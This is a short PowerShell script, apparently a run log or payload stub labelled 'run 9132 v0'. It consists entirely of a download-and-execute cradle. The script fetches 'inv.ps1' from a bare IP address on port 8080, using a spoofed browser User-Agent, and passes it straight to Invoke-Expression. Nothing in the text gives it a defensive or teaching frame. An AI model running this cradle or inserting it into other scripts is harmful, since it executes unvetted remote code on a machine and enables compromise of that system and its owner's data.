# run 9132 v0
$u = 'http://203.0.113.17:8080/'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent','Mozilla/5.0')
$s = $wc.DownloadString($u + 'inv.ps1')
Invoke-Expression $s
